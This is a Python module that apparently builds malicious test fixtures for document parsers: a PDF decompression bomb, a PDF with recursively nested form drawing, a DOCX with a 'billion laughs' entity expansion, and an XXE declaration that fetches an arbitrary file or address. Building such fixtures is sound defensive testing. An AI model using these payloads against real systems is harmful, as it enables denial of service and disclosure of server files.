"""Files that are made to harm, as small as they can be."""

from __future__ import annotations

import io
import zipfile
import zlib

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
HELLO = b"BT /F1 12 Tf 72 700 Td (The Commission requests the Secretariat to report.) Tj ET "


def pdf(*objects: bytes) -> bytes:
    """A PDF of these objects; the first is its catalogue."""
    out, places = b"%PDF-1.7\n", []
    for number, held in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, held)
    rows = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(objects) + 1, rows)
    return out + head + b"trailer <</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, len(out))


def stream(data: bytes, more: bytes = b"", times: int = 1) -> bytes:
    """A stream, packed so many times."""
    for _ in range(times):
        data = zlib.compress(data, 9)
    return b"<</Length %d/Filter[%s]%s>>\nstream\n%s\nendstream" % (len(data), b"/FlateDecode" * times, more, data)


def page_pdf(content: bytes, *more: bytes, resources: bytes = b"/Font<</F1 5 0 R>>", font: bytes = FONT) -> bytes:
    """A PDF of one page; further objects are numbered from 6."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<<%s>>>>" % resources
    pages = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
    return pdf(b"<</Type/Catalog/Pages 2 0 R>>", pages, page, content, font, *more)


def pdf_that_unpacks(megabytes: int) -> bytes:
    """A few kilobytes that are blank space without end."""
    return page_pdf(stream(b" " * (megabytes << 20), times=2))


def pdf_that_laughs(depth: int, width: int) -> bytes:
    """A page that draws a form so many times that draws a form so many times ..."""
    forms = []
    for level in range(depth):
        last = level == depth - 1
        drawn = b"<</Font<</F1 5 0 R>>>>" if last else b"<</XObject<</X %d 0 R>>>>" % (level + 7)
        forms.append(
            stream(
                HELLO if last else b"/X Do " * width,
                b"/Type/XObject/Subtype/Form/BBox[0 0 612 792]/Resources" + drawn,
            )
        )
    return page_pdf(stream(HELLO + b"/X Do"), *forms, resources=b"/Font<</F1 5 0 R>>/XObject<</X 6 0 R>>")


def docx(body: str, *, doctype: str = "", **parts: str | bytes) -> bytes:
    """A Word file whose body is the XML that is given."""
    held: dict[str, str | bytes] = {
        "[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" Type="{OFFICE}/officeDocument" Target="word/document.xml"/></Relationships>',
        "word/document.xml": f'{doctype}<w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>',
        **parts,
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in held.items():
            package.writestr(name, data)
    return out.getvalue()


def paragraph(text: str) -> str:
    """A paragraph of a Word file."""
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def laughs(root: str) -> str:
    """Entities that unfold to a thousand million letters."""
    rows = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE {root} [<!ENTITY l0 "ha">{rows}]>'


def outside(root: str, target: str) -> str:
    """An entity that is a file or an address elsewhere."""
    return f'<!DOCTYPE {root} [<!ENTITY x SYSTEM "{target}"><!ENTITY % p SYSTEM "{target}"> %p;]>'
